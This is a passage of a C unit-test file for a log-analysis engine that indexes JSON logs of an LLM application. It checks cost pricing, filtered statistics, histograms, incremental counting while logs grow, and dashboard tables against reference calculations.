	CU_ASSERT_EQUAL(eng_prices_count(p), 4);
	cost_of(e, "{\"provider\":\"acme\",\"model\":\"m2\","
	    "\"prompt_tokens\":2,\"completion_tokens\":3}", &usd);
	CU_ASSERT_DOUBLE_EQUAL(usd, 6, 1e-12);

	/* a bad price names the file, the line and the key */
	CU_ASSERT_EQUAL(eng_prices_load(p, bad, false, err, sizeof err), -1);
	CU_ASSERT_PTR_NOT_NULL(strstr(err, bad));
	CU_ASSERT_PTR_NOT_NULL(strstr(err, ":3: "));
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "'bad/x'"));
	CU_ASSERT_PTR_NOT_NULL(strstr(err, "input_cost_per_token is -1"));
	/* a file that is not there: an error unless missing is fine */
	snprintf(bad, sizeof bad, "%s/none.json", dir);
	CU_ASSERT_EQUAL(eng_prices_load(p, bad, false, err, sizeof err), -1);
	CU_ASSERT_EQUAL(eng_prices_load(p, bad, true, err, sizeof err), 0);

	strbuf_init(&fmt);
	eng_format_cost(&fmt, 0.0001517);
	strbuf_puts(&fmt, " ");
	eng_format_cost(&fmt, 0.5);
	strbuf_puts(&fmt, " ");
	eng_format_cost(&fmt, 1234.567);
	strbuf_puts(&fmt, " ");
	eng_format_cost(&fmt, 0);
	CU_ASSERT_STRING_EQUAL(fmt.s, "$0.0001517 $0.50 $1,234.57 $0.00");
	strbuf_free(&fmt);
	eng_close(e);
	eng_prices_free(p);
	util_rmtree(dir);
}

static void
test_stats(void)
{
	struct eng *e = load(FIXTURE);
	json_object *want = json_object_from_file(SRCDIR "/data/stats/fixture.json");
	struct eng_filter f;
	json_object *got, *sec;

	CU_ASSERT_PTR_NOT_NULL_FATAL(want);
	eng_filter_init(&f);
	got = stats_of(e, &f);
	CU_ASSERT(json_same(got, want, "stats"));
	json_object_put(got);
	json_object_put(want);

	/* stats honour the filter */
	f.categories = 1u << LLMLOG_SECURITY;
	f.keyword = "passwd";
	got = stats_of(e, &f);
	CU_ASSERT_EQUAL(json_object_get_int(json_object_object_get(got,
	    "total")), 2);
	sec = json_object_object_get(got, "security");
	CU_ASSERT_EQUAL(json_object_get_int(json_object_object_get(sec,
	    "denied")), 2);
	CU_ASSERT_EQUAL(json_object_get_int(json_object_object_get(
	    json_object_object_get(got, "user"), "total")), 0);
	json_object_put(got);
	eng_close(e);
}

/* One stats object fed a view, then another view: it starts over. */
static void
test_stats_new_view(void)
{
	struct eng *e = load(FIXTURE);
	struct eng_stats *s = eng_stats_new();
	struct eng_filter f;
	struct eng_view *v;
	json_object *o;

	eng_filter_init(&f);
	f.categories = 1u << LLMLOG_USER;
	v = eng_view_new(e, &f);
	eng_stats_update(s, v);
	eng_view_free(v);
	f.categories = 1u << LLMLOG_TOOL;
	v = eng_view_new(e, &f);	/* may well get the same address */
	eng_stats_update(s, v);
	o = eng_stats_json(s);
	CU_ASSERT_EQUAL(json_object_get_int(json_object_object_get(o,
	    "total")), 6);
	CU_ASSERT_EQUAL(json_object_get_int(json_object_object_get(
	    json_object_object_get(o, "user"), "total")), 0);
	json_object_put(o);
	eng_view_free(v);
	eng_stats_free(s);
	eng_close(e);
}

/* The histogram against its documented rule (engine.h, eng_hist_build),
 * counted here from the view's entries. */
static int64_t
hist_ref_width(size_t i)
{
	static const int64_t secs[] = { 1, 2, 5, 10, 15, 30, 60, 120, 300, 600,
	    900, 1800, 3600, 7200, 10800, 21600, 43200, 86400, 172800, 604800,
	    2592000, 31536000 };
	size_t n = sizeof secs / sizeof secs[0];

	return i < n ? secs[i] * ENG_US_PER_SEC :
	    (int64_t)(i - n + 2) * secs[n - 1] * ENG_US_PER_SEC;
}

static void
check_hist(struct eng_view *v, struct eng_stats *s, size_t max,
    int64_t min_width, bool aligned)
{
	int64_t first = INT64_MAX, last = INT64_MIN, w = 0, start = 0, unit;
	struct eng_hist h;
	uint64_t err = 0, warn = 0, other = 0;

	for (size_t i = 0; i < eng_view_count(v); i++) {
		int64_t t = eng_view_get(v, i)->time_us;
		if (t != ENG_TIME_NONE && t < first)
			first = t;
		if (t != ENG_TIME_NONE && t > last)
			last = t;
	}
	for (size_t i = 0;; i++) {
		if ((w = hist_ref_width(i)) < min_width)
			continue;
		/* the fixture's times are > 0: "/" rounds down */
		unit = w < ENG_US_PER_MIN ? ENG_US_PER_SEC : ENG_US_PER_MIN;
		start = aligned ? first / w * w : first / unit * unit;
		if ((size_t)((last - start) / w) + 1 <= max)
			break;
	}
	eng_hist_build(s, max, min_width, aligned, &h);
	CU_ASSERT_EQUAL(h.width_us, w);
	CU_ASSERT_EQUAL(h.start_us, start);
	CU_ASSERT_EQUAL_FATAL(h.n, (size_t)((last - start) / w) + 1);
	for (size_t i = 0; i < eng_view_count(v); i++) {
		const struct eng_entry *en = eng_view_get(v, i);
		size_t b;

		if (en->time_us == ENG_TIME_NONE)
			continue;
		b = (size_t)((en->time_us - start) / w);
		if (eng_entry_level(en) >= LLMLOG_ERROR)
			err++, h.b[b].err--;
		else if (eng_entry_level(en) == LLMLOG_WARNING)
			warn++, h.b[b].warn--;
		else
			other++, h.b[b].other--;
	}
	CU_ASSERT(err > 0 && warn > 0 && other > 0);
	for (size_t b = 0; b < h.n; b++)
		CU_ASSERT(h.b[b].err == 0 && h.b[b].warn == 0 &&
		    h.b[b].other == 0);
	eng_hist_free(&h);
}

static void
test_hist(void)
{
	struct eng *e = load(FIXTURE);
	struct eng_view *v = view_all(e);
	struct eng_stats *s = eng_stats_new();
	struct eng_hist h;

	eng_hist_build(s, 60, ENG_US_PER_MIN, false, &h);
	CU_ASSERT_EQUAL(h.n, 0);
	CU_ASSERT_EQUAL(h.start_us, ENG_TIME_NONE);
	CU_ASSERT_EQUAL(h.width_us, ENG_US_PER_MIN);
	eng_hist_free(&h);
	eng_stats_update(s, v);
	for (int aligned = 0; aligned <= 1; aligned++) {
		check_hist(v, s, 1, ENG_US_PER_SEC, aligned);
		check_hist(v, s, 10, ENG_US_PER_SEC, aligned);
		check_hist(v, s, 60, ENG_US_PER_MIN, aligned);
		check_hist(v, s, 100, ENG_US_PER_SEC, aligned);
		check_hist(v, s, 200, ENG_US_PER_SEC, aligned);
		check_hist(v, s, 5000, ENG_US_PER_SEC, aligned);
	}
	eng_stats_free(s);
	eng_view_free(v);
	eng_close(e);
}

/* ---- statistics in slices ---- */

/* The report as exact text: doubles to their last bit. */
static char *
stats_text(const struct eng_stats *s)
{
	json_object *o = eng_stats_json(s);
	char *t;

	CU_ASSERT_PTR_NOT_NULL_FATAL(o);
	t = strdup(json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN));
	json_object_put(o);
	return t;
}

static char *
full_text(struct eng *e)
{
	struct eng_view *v = view_all(e);
	struct eng_stats *s = eng_stats_new();
	char *t;

	eng_stats_update(s, v);
	t = stats_text(s);
	eng_stats_free(s);
	eng_view_free(v);
	return t;
}

static void
expect_same_text(const char *got, const char *want, const char *what)
{
	if (strcmp(got, want) == 0)
		return;
	fprintf(stderr, "\n%s: got\n%s\n  expected\n%s\n", what, got, want);
	CU_FAIL("stats in slices differ");
}

/* Count v in slices of n; a report read half-way shows the figures so
 * far. */
static char *
sliced_text(struct eng_view *v, size_t n)
{
	struct eng_stats *s = eng_stats_new();
	size_t counted, total, calls = 0;
	char *t;

	while (!eng_stats_update_some(s, v, n)) {
		eng_stats_progress(s, &counted, &total);
		CU_ASSERT(counted < total);
		CU_ASSERT(total == eng_view_count(v));
		if (calls++ == 1)
			free(stats_text(s));
	}
	eng_stats_progress(s, &counted, &total);
	CU_ASSERT_EQUAL(counted, eng_view_count(v));
	CU_ASSERT_EQUAL(total, counted);
	t = stats_text(s);
	eng_stats_free(s);
	return t;
}

static void
test_stats_slices_fixture(void)
{
	static const size_t sizes[] = { 1, 7, 1000 };
	struct eng *e = load(FIXTURE);
	struct eng_view *v = view_all(e);
	char *want = full_text(e), *got;
	struct eng_stats *s;

	for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
		got = sliced_text(v, sizes[i]);
		expect_same_text(got, want, "fixture");
		free(got);
	}
	/* a view changed half-way starts over */
	s = eng_stats_new();
	{
		struct eng_filter f;
		struct eng_view *tools;

		eng_filter_init(&f);
		f.categories = 1u << LLMLOG_TOOL;
		tools = eng_view_new(e, &f);
		CU_ASSERT_FALSE(eng_stats_update_some(s, tools, 3));
		eng_view_free(tools);
	}
	while (!eng_stats_update_some(s, v, 5))
		;
	got = stats_text(s);
	expect_same_text(got, want, "fixture after another view");
	free(got);
	eng_stats_free(s);
	free(want);
	eng_view_free(v);
	eng_close(e);
}

/* Lines of every category with fractional durations (whose sums depend
 * on the order of addition unless done exactly), ties among the slowest,
 * names that repeat, malformed, foreign and untimed lines.  Times step
 * by seed so that appended lines also land before older ones. */
static void
gen_lines(const char *dir, int from, int count, int seed)
{
	static const char *const files[] = { "user_interactions.log",
	    "system_health.log", "tool_executions.log", "llm_calls.log",
	    "security.log", "performance.log" };
	static const char *const levels[] = { "DEBUG", "INFO", "WARNING",
	    "ERROR", "CRITICAL" };
	FILE *fp[6];
	char path[512];

	for (int c = 0; c < 6; c++) {
		snprintf(path, sizeof path, "%s/%s", dir, files[c]);
		fp[c] = fopen(path, "a");
		CU_ASSERT_PTR_NOT_NULL_FATAL(fp[c]);
	}
	for (int i = from; i < from + count; i++) {
		unsigned h = (unsigned)i * 2654435761u ^ (unsigned)seed;
		int c = (int)(h % 6);
		long t = (long)((h >> 8) % 86400);
		char ts[64];
		double d = (double)(h % 100000) / 997.0;
		const char *lv = levels[(h >> 3) % 5];

		snprintf(ts, sizeof ts,
		    "2026-11-%02ldT%02ld:%02ld:%02ld.%03ldZ", 20 + t % 3,
		    t / 3600, t / 60 % 60, t % 60, (long)(h % 1000));
		if (i % 97 == 0) {
			fprintf(fp[c], "{\"category\":\"broken %d\n", i);
			continue;
		}
		if (i % 89 == 0) {
			fprintf(fp[c], "{\"msg\":\"foreign %d\","
			    "\"duration_ms\":1}\n", i);
			continue;
		}
		fprintf(fp[c], "{\"category\":\"%s\",",
		    llmlog_category_name(c));
		if (i % 83 != 0)
			fprintf(fp[c], "\"timestamp\":\"%s\",", ts);
		fprintf(fp[c], "\"level\":\"%s\",\"event\":\"e\"", lv);
		switch (c) {
		case LLMLOG_USER:
			fprintf(fp[c], ",\"success\":%s,\"duration_ms\":%.17g",
			    h % 5 ? "true" : "false", d);
			break;
		case LLMLOG_TOOL:
			fprintf(fp[c], ",\"tool_name\":\"tool%u\","
			    "\"success\":%s,\"duration_ms\":%.17g", h % 37,
			    h % 7 ? "true" : "false", d * 1e-3);
			break;
		case LLMLOG_LLM:
			fprintf(fp[c], ",\"provider\":\"p%u\","
			    "\"model\":\"m%u\",\"prompt_tokens\":%u,"
			    "\"completion_tokens\":%.3f,\"duration_ms\":%.17g,"
			    "\"streaming\":%s", h % 4,
			    h % 11, h % 3000, (double)(h % 977) / 8.0, d * 1e3,
			    h % 3 ? "false" : "true");
			break;
		case LLMLOG_SECURITY:
			fprintf(fp[c], ",\"resource\":\"/r/%u\","
			    "\"action\":\"a%u\",\"allowed\":%s", h % 29,
			    h % 5, h % 4 ? "false" : "true");
			break;
		case LLMLOG_PERFORMANCE:
			/* few distinct values: the slowest list has ties */
			fprintf(fp[c], ",\"operation\":\"op%d\","
			    "\"duration_ms\":%.17g,\"memory_mb\":%.2f", i,
			    (double)(h % 50) * 0.1, (double)(h % 5000) / 7.0);
			break;
		}
		fputs("}\n", fp[c]);
	}
	for (int c = 0; c < 6; c++)
		fclose(fp[c]);
}

#define GEN_FIRST	22000	/* over stats.c's two-thread threshold */
#define GEN_MORE	700
#define GEN_ROUNDS	4

/* Count in slices of n while lines are appended now and then; mixed:
 * one full update half-way.  The end must be one full update's. */
static void
slices_with_follow(const char *dir, size_t n, bool mixed)
{
	struct eng *e;
	struct eng_view *v;
	struct eng_stats *s = eng_stats_new();
	size_t counted, total;
	int rounds = 0;
	char *want, *got, what[64];

	gen_lines(dir, 0, GEN_FIRST, 1);
	e = load(dir);
	v = view_all(e);
	for (;;) {
		bool done = eng_stats_update_some(s, v, n);

		eng_stats_progress(s, &counted, &total);
		if (rounds < GEN_ROUNDS &&
		    counted >= (size_t)(rounds + 1) * GEN_FIRST / 5) {
			gen_lines(dir, GEN_FIRST + rounds * GEN_MORE, GEN_MORE,
			    2 + rounds);
			CU_ASSERT(eng_refresh(e) > 0);
			CU_ASSERT(eng_view_update(v) > 0);
			if (mixed && rounds == 1)
				eng_stats_update(s, v);
			rounds++;
			continue;
		}
		if (done && rounds == GEN_ROUNDS)
			break;
	}
	CU_ASSERT_EQUAL(eng_view_count(v), GEN_FIRST + GEN_ROUNDS * GEN_MORE);
	CU_ASSERT_EQUAL(counted, eng_view_count(v));
	got = stats_text(s);
	want = full_text(e);
	snprintf(what, sizeof what, "slices of %zu%s with follow", n,
	    mixed ? " and a full update" : "");
	expect_same_text(got, want, what);
	free(got);
	free(want);
	eng_stats_free(s);
	eng_view_free(v);
	eng_close(e);
}

static void
test_stats_slices_generated(void)
{
	static const size_t sizes[] = { 1, 7, 1000 };

	for (size_t i = 0; i <= sizeof sizes / sizeof sizes[0]; i++) {
		bool mixed = i == sizeof sizes / sizeof sizes[0];
		const char *dir = util_tmpdir("slices");

		slices_with_follow(dir, mixed ? 7 : sizes[i], mixed);
		CU_ASSERT_EQUAL(util_rmtree(dir), 0);
	}
}

/* ---- statistics counted on load ---- */

/* The dashboard's tables, one line a row. */
static void
print_tables(FILE *fp, struct eng_stats *s)
{
	struct eng_stats_row r[64];

	for (int w = ENG_TABLE_MODELS; w <= ENG_TABLE_TOOLS; w++) {
		size_t n = eng_stats_table(s, w, r, 64);

		fprintf(fp, "\ntable %d: %zu", w, n);
		for (size_t i = 0; i < n && i < 64; i++)
			fprintf(fp, "\n%.*s %llu %llu %.17g %.17g %.17g",
			    (int)r[i].len, r[i].name,
			    (unsigned long long)r[i].calls,
			    (unsigned long long)r[i].failed, r[i].tokens,
			    r[i].p50_ms, r[i].p95_ms);
	}
}

/* The report of a view of every entry, with the times of the slowest
 * entries and of the errors, which the JSON does not show, and with
 * tables the dashboard's tables. */
static char *
report_with_times(struct eng *e, bool tables)
{
	struct eng_view *v = view_all(e);
	struct eng_stats *s = eng_stats_new();
	struct eng_error_row rows[8];
	struct eng_slowest sl;
	size_t n, len;
	char *t, *out;
	FILE *fp;

	if (tables)
		eng_stats_keep_tables(s);
	eng_stats_update(s, v);
	t = stats_text(s);
	CU_ASSERT_PTR_NOT_NULL_FATAL(fp = open_memstream(&out, &len));
	fputs(t, fp);
	for (size_t i = 0; eng_stats_slowest(s, i, &sl); i++)
		fprintf(fp, "\nslow %.17g %lld %u %llu", sl.ms,
		    (long long)sl.entry.time_us, sl.entry.file,
		    (unsigned long long)sl.entry.offset);
	n = eng_stats_errors(s, rows, 8);
	for (size_t i = 0; i < n; i++)
		fprintf(fp, "\nerror %.*s %llu %lld", (int)rows[i].len,
		    rows[i].text, (unsigned long long)rows[i].count,
		    (long long)rows[i].last_us);
	if (tables)
		print_tables(fp, s);
	fclose(fp);
	free(t);
	eng_stats_free(s);
	eng_view_free(v);
	return out;
}

/* The report of a view of every entry, counted while the index is read
 * (eng_stats_on_load) or by the stats pass. */
static char *
counted_text(const char *dir, bool on_load, bool tables)
{
	char err[256];
	struct eng *e = eng_open(&dir, 1, err, sizeof err);
	struct eng_filter f;
	char *t;

	CU_ASSERT_PTR_NOT_NULL_FATAL(e);
	eng_filter_init(&f);
	if (on_load && tables)
		eng_stats_on_load_tables(e, &f, false);
	else if (on_load)
		eng_stats_on_load(e, &f, false);
	CU_ASSERT_EQUAL_FATAL(eng_load(e, err, sizeof err), 0);
	CU_ASSERT_EQUAL(e->stats_pre != NULL, on_load);
	t = report_with_times(e, tables);
	CU_ASSERT_PTR_NULL(e->stats_pre);	/* the report took them */
	if (on_load) {	/* a second report counts again, the same */
		char *again = report_with_times(e, tables);

		expect_same_text(again, t, "counted again");
		free(again);
	}
	eng_close(e);
	return t;
}

/* Lines of 8 KiB, so that the file is read in more than one part: those
 * around 8 MiB have no time, so the part that starts there takes the
 * time of the lines before it; they are the slowest. */
static void
gen_long_lines(const char *dir)
{
	static char pad[8192];
	char path[512];
	FILE *fp;

	memset(pad, 'x', sizeof pad - 1);
	snprintf(path, sizeof path, "%s/performance.log", dir);
	CU_ASSERT_PTR_NOT_NULL_FATAL(fp = fopen(path, "a"));
	for (int i = 0; i < 1100; i++) {
		char head[256];
		int n;

		if (i >= 1010 && i < 1040)
			n = snprintf(head, sizeof head, "{\"category\":"
			    "\"performance\",\"level\":\"INFO\",");
		else
			n = snprintf(head, sizeof head, "{\"category\":"
			    "\"performance\",\"timestamp\":"
			    "\"2026-11-2%dT10:%02d:%02d.000Z\",\"level\":"
			    "\"INFO\",", 1 + i / 1000, i / 60 % 60, i % 60);
		n += snprintf(head + n, sizeof head - (size_t)n,
		    "\"operation\":\"op%d\",\"duration_ms\":%d,"
		    "\"pad\":\"", i % 7, i >= 1010 && i < 1040 ? 1000 + i :
		    i % 13);
		fprintf(fp, "%s%.*s\"}\n", head, 8192 - n - 3, pad);
	}
	fclose(fp);
}

static void
test_stats_on_load(void)
{
	const char *dir = util_tmpdir("onload");
	char *want, *got;

	gen_lines(dir, 0, 3000, 5);
	gen_long_lines(dir);
	want = counted_text(dir, false, false);
	got = counted_text(dir, true, false);
	expect_same_text(got, want, "counted on load");
	free(want);
	free(got);
	/* the dashboard's tables too, counted over more than one part */
	gen_lines(dir, 3000, GEN_FIRST, 6);
	want = counted_text(dir, false, true);
	got = counted_text(dir, true, true);
	CU_ASSERT_PTR_NOT_NULL(strstr(want, "\ntable 0: 11\nm"));
	expect_same_text(got, want, "tables counted on load");
	free(want);
	free(got);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* ---- the dashboard's figures, against their documented rule ---- */

struct ref_req {
	int64_t minute;		/* INT64_MIN: untimed */
	double ms;
};

static int
cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

/* An entry's line as json-c reads it (NULL when it is no JSON object). */
static json_object *
entry_json(struct eng *e, const struct eng_entry *en)
{
	struct json_tokener *tok = json_tokener_new();
	json_object *o;
	size_t n;
	const char *s = eng_line(e, en, &n);

	o = s != NULL ? json_tokener_parse_ex(tok, s, (int)n) : NULL;
	json_tokener_free(tok);
	if (o != NULL && !json_object_is_type(o, json_type_object)) {
		json_object_put(o);
		o = NULL;
	}
	return o;
}

/* Nearest rank: the smallest value with at least q of them at or below. */
static double
ref_rank(double *v, size_t n, double q)
{
	size_t rank;

	if (n == 0)
		return NAN;
	qsort(v, n, sizeof *v, cmp_double);
	rank = (size_t)ceil(q * (double)n);
	return v[rank < 1 ? 0 : rank - 1];
}

static bool
jbool(json_object *o, const char *key, bool dflt)
{
	json_object *v;

	return json_object_object_get_ex(o, key, &v) ?
	    json_object_get_boolean(v) : dflt;
}

static double
jdouble(json_object *o, const char *key)
{
	json_object *v;

	return json_object_object_get_ex(o, key, &v) ?
	    json_object_get_double(v) : NAN;
}

/* One name of a dashboard table, read from the lines. */
struct ref_row {
	char name[32];
	uint64_t calls, failed;
	double tokens;
	double *d;
	size_t nd;
};

static int
ref_row_cmp(const void *a, const void *b)
{
	const struct ref_row *x = a, *y = b;

	if (x->calls != y->calls)
		return x->calls > y->calls ? -1 : 1;
	return strcmp(x->name, y->name);
}

/* The LLM calls by model or the tools by tool_name of v by the rule of
 * engine.h (eng_stats_table): most calls first, ties by name. */
static size_t
ref_table(struct eng *e, struct eng_view *v, int cat, const char *field,
    struct ref_row *rows, size_t max)
{
	size_t n = 0, k;

	for (size_t i = 0; i < eng_view_count(v); i++) {
		const struct eng_entry *en = eng_view_get(v, i);
		json_object *o, *name;
		double d;

		if (en->category != cat ||
		    (en->flags & (ENTRY_MALFORMED | ENTRY_FOREIGN)))
			continue;
		o = entry_json(e, en);
		CU_ASSERT_PTR_NOT_NULL_FATAL(o);
		CU_ASSERT_FATAL(json_object_object_get_ex(o, field, &name));
		for (k = 0; k < n && strcmp(rows[k].name,
		    json_object_get_string(name)) != 0; k++)
			;
		if (k == n) {
			CU_ASSERT_FATAL(n < max);
			memset(&rows[n], 0, sizeof rows[n]);
			snprintf(rows[n].name, sizeof rows[n].name, "%s",
			    json_object_get_string(name));
			rows[n].d = calloc(eng_view_count(v), sizeof *rows[n].d);
			n++;
		}
		rows[k].calls++;
		rows[k].failed += !jbool(o, "success", true);
		if (cat == LLMLOG_LLM)
			rows[k].tokens += jdouble(o, "prompt_tokens") +
			    jdouble(o, "completion_tokens");
		if (!isnan(d = jdouble(o, "duration_ms")))
			rows[k].d[rows[k].nd++] = d;
		json_object_put(o);
	}
	qsort(rows, n, sizeof *rows, ref_row_cmp);
	return n;
}

/* The dashboard's tables against their rule, and their calls, failures
 * and tokens against the report's (--stats) for the same entries. */
static void
test_stats_tables(void)
{
	const char *dir = util_tmpdir("tables");
	static const struct {
		int which, cat;
		const char *field, *json_section, *json_list;
	} t[] = {
		{ ENG_TABLE_MODELS, LLMLOG_LLM, "model", "llm",
		    "failures_by_model" },
		{ ENG_TABLE_TOOLS, LLMLOG_TOOL, "tool_name", "tool",
		    "failures_by_tool" },
	};
	struct eng *e;
	struct eng_view *v;
	struct eng_stats *s = eng_stats_new(), *plain = eng_stats_new();
	struct eng_stats_row got[64];
	struct ref_row want[64];
	json_object *report;
	char err[256];

	gen_lines(dir, 0, 6000, 3);
	e = eng_open(&dir, 1, err, sizeof err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(e);
	CU_ASSERT_EQUAL_FATAL(eng_load(e, err, sizeof err), 0);
	v = view_all(e);
	eng_stats_keep_tables(s);
	eng_stats_update(s, v);
	eng_stats_update(plain, v);
	CU_ASSERT_EQUAL(eng_stats_table(plain, ENG_TABLE_MODELS, got, 64), 0);
	report = eng_stats_json(s);
	for (size_t w = 0; w < sizeof t / sizeof t[0]; w++) {
		size_t n = eng_stats_table(s, t[w].which, got, 64);
		size_t rn = ref_table(e, v, t[w].cat, t[w].field, want, 64);
		json_object *sec, *list;

		CU_ASSERT_EQUAL_FATAL(n, rn);
		CU_ASSERT(n > 5);
		CU_ASSERT_FATAL(json_object_object_get_ex(report,
		    t[w].json_section, &sec));
		CU_ASSERT_FATAL(json_object_object_get_ex(sec, t[w].json_list,
		    &list));
		for (size_t i = 0; i < n; i++) {
			json_object *item = json_object_array_get_idx(list,
			    (int)i), *x;

			CU_ASSERT_EQUAL(got[i].len, strlen(want[i].name));
			CU_ASSERT_NSTRING_EQUAL(got[i].name, want[i].name,
			    got[i].len);
			CU_ASSERT_EQUAL(got[i].calls, want[i].calls);
			CU_ASSERT_EQUAL(got[i].failed, want[i].failed);
			CU_ASSERT_DOUBLE_EQUAL(got[i].tokens, want[i].tokens,
			    1e-6 * (1 + want[i].tokens));
			CU_ASSERT_EQUAL(got[i].p50_ms, ref_rank(want[i].d,
			    want[i].nd, 0.50));
			CU_ASSERT_EQUAL(got[i].p95_ms, ref_rank(want[i].d,
			    want[i].nd, 0.95));
			free(want[i].d);
			/* the report's ranking (its first 20), name for
			 * name */
			if (item == NULL)
				continue;
			json_object_object_get_ex(item, "name", &x);
			CU_ASSERT_STRING_EQUAL(json_object_get_string(x),
			    want[i].name);
			json_object_object_get_ex(item, "calls", &x);
			CU_ASSERT_EQUAL((uint64_t)json_object_get_int64(x),
			    got[i].calls);
			json_object_object_get_ex(item, "failed", &x);
			CU_ASSERT_EQUAL((uint64_t)json_object_get_int64(x),
			    got[i].failed);
		}
		CU_ASSERT_EQUAL(json_object_array_length(list),
		    n < 20 ? n : 20);
	}
	json_object_put(report);
	eng_stats_free(plain);
	eng_stats_free(s);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* The figures of the entries of v whose minute starts in [from, to),
 * read from their lines. */
static void
ref_period(struct eng *e, struct eng_view *v, int64_t from, int64_t to,
    struct eng_period *out)
{
	double *d = calloc(eng_view_count(v) + 1, sizeof *d);
	size_t nd = 0;

	memset(out, 0, sizeof *out);
	for (size_t i = 0; i < eng_view_count(v); i++) {
		const struct eng_entry *en = eng_view_get(v, i);
		int64_t t = en->time_us, m;
		json_object *o;

		if (en->flags & (ENTRY_MALFORMED | ENTRY_FOREIGN))
			continue;
		if (t == ENG_TIME_NONE) {
			if (from != ENG_TIME_NONE)
				continue;
		} else {
			m = (t >= 0 ? t / ENG_US_PER_MIN :
			    (t + 1) / ENG_US_PER_MIN - 1) * ENG_US_PER_MIN;
			if ((from != ENG_TIME_NONE && m < from) || m >= to)
				continue;
		}
		o = entry_json(e, en);
		CU_ASSERT_PTR_NOT_NULL_FATAL(o);
		switch (en->category) {
		case LLMLOG_USER:
			if (t != ENG_TIME_NONE) {
				out->requests++;
				out->requests_ok += jbool(o, "success", false);
			}
			if (!isnan(jdouble(o, "duration_ms")))
				d[nd++] = jdouble(o, "duration_ms");
			break;
		case LLMLOG_LLM:
			if (t == ENG_TIME_NONE)
				break;
			out->llm_calls++;
			out->llm_failed += !jbool(o, "success", true);
			out->tokens += (uint64_t)llround(jdouble(o,
			    "prompt_tokens") + jdouble(o, "completion_tokens"));
			break;
		case LLMLOG_SECURITY:
			if (t != ENG_TIME_NONE)
				out->denied += !jbool(o, "allowed", false);
			break;
		}
		json_object_put(o);
	}
	out->p95_request_ms = ref_rank(d, nd, 0.95);
	free(d);
}

static void
check_period(struct eng *e, struct eng_view *v, struct eng_stats *s,
    int64_t from, int64_t to)
{
	struct eng_period got, want;

	eng_stats_period(s, from, to, &got);
	ref_period(e, v, from, to, &want);
	CU_ASSERT_EQUAL(got.requests, want.requests);
	CU_ASSERT_EQUAL(got.requests_ok, want.requests_ok);
	CU_ASSERT_EQUAL(got.llm_calls, want.llm_calls);
	CU_ASSERT_EQUAL(got.llm_failed, want.llm_failed);
	CU_ASSERT_EQUAL(got.tokens, want.tokens);
	CU_ASSERT_EQUAL(got.denied, want.denied);
	CU_ASSERT(isnan(want.p95_request_ms) ? isnan(got.p95_request_ms) :
	    got.p95_request_ms == want.p95_request_ms);
}

/* Each bucket's request latency, from the requests' lines. */
static void
check_latency(struct eng *e, struct eng_view *v, struct eng_stats *s)
{
	struct eng_hist h;
	double *p50, *p95, *d = calloc(eng_view_count(v) + 1, sizeof *d);
	size_t nonempty = 0;

	eng_hist_build(s, 50, ENG_US_PER_SEC, true, &h);
	CU_ASSERT_FATAL(h.n > 10);
	p50 = calloc(h.n, sizeof *p50);
	p95 = calloc(h.n, sizeof *p95);
	eng_hist_latency(s, &h, p50, p95);
	for (size_t b = 0; b < h.n; b++) {
		int64_t start = h.start_us + (int64_t)b * h.width_us;
		size_t nd = 0;
		double w50, w95;

		for (size_t i = 0; i < eng_view_count(v); i++) {
			const struct eng_entry *en = eng_view_get(v, i);
			json_object *o;

			if (en->category != LLMLOG_USER || (en->flags &
			    (ENTRY_MALFORMED | ENTRY_FOREIGN)) ||
			    en->time_us < start ||
			    en->time_us >= start + h.width_us)
				continue;
			o = entry_json(e, en);
			if (!isnan(jdouble(o, "duration_ms")))
				d[nd++] = jdouble(o, "duration_ms");
			json_object_put(o);
		}
		w95 = ref_rank(d, nd, 0.95);
		w50 = ref_rank(d, nd, 0.50);
		nonempty += nd > 0;
		CU_ASSERT(nd == 0 ? isnan(p50[b]) && isnan(p95[b]) :
		    p50[b] == w50 && p95[b] == w95);
	}
	CU_ASSERT(nonempty > 10);
	free(p50);
	free(p95);
	free(d);
	eng_hist_free(&h);
}

/* The slowest performance entries: their own entries, in the JSON's
 * order. */
static void
check_slowest(struct eng *e, struct eng_stats *s)
{
	json_object *o = eng_stats_json(s), *slow;
	struct eng_slowest sl;
	size_t n;

	slow = json_object_object_get(json_object_object_get(o,
	    "performance"), "slowest");
	n = json_object_array_length(slow);
	CU_ASSERT(n > 0);
	for (size_t i = 0; i < n; i++) {
		json_object *it = json_object_array_get_idx(slow, i), *line;

		CU_ASSERT_FATAL(eng_stats_slowest(s, i, &sl));
		CU_ASSERT_STRING_EQUAL(sl.operation, json_object_get_string(
		    json_object_object_get(it, "operation")));
		CU_ASSERT_EQUAL(sl.ms, json_object_get_double(
		    json_object_object_get(it, "duration_ms")));
		CU_ASSERT_EQUAL(sl.entry.category, LLMLOG_PERFORMANCE);
		line = entry_json(e, &sl.entry);
		CU_ASSERT_PTR_NOT_NULL_FATAL(line);
		CU_ASSERT_STRING_EQUAL(sl.operation, json_object_get_string(
		    json_object_object_get(line, "operation")));
		CU_ASSERT_EQUAL(sl.ms, jdouble(line, "duration_ms"));
		json_object_put(line);
	}
	CU_ASSERT_FALSE(eng_stats_slowest(s, n, &sl));
	json_object_put(o);
}

/* Counted in slices while lines arrive (some before older ones), the
 * figures by time are those of the lines. */
static void
test_stats_dashboard(void)
{
	const char *dir = util_tmpdir("dashboard");
	struct eng *e;
	struct eng_view *v;
	struct eng_stats *s = eng_stats_new();
	int64_t mid;

	gen_lines(dir, 0, GEN_FIRST, 1);
	e = load(dir);
	v = view_all(e);
	mid = INT64_C(1795262400) * ENG_US_PER_SEC;	/* 2026-11-21 12:00Z */
	while (!eng_stats_update_some(s, v, 4096))
		;
	check_period(e, v, s, ENG_TIME_NONE, INT64_MAX);
	for (int round = 0; round < 3; round++) {
		/* a live view's few new lines (merged into what is kept in
		 * order), then a few hundred */
		gen_lines(dir, GEN_FIRST + round * GEN_MORE, round == 2 ?
		    GEN_MORE : 3, 7 + round);
		CU_ASSERT(eng_refresh(e) > 0);
		CU_ASSERT(eng_view_update(v) > 0);
		eng_stats_update(s, v);
		check_period(e, v, s, mid, INT64_MAX);
	}
	check_period(e, v, s, ENG_TIME_NONE, INT64_MAX);
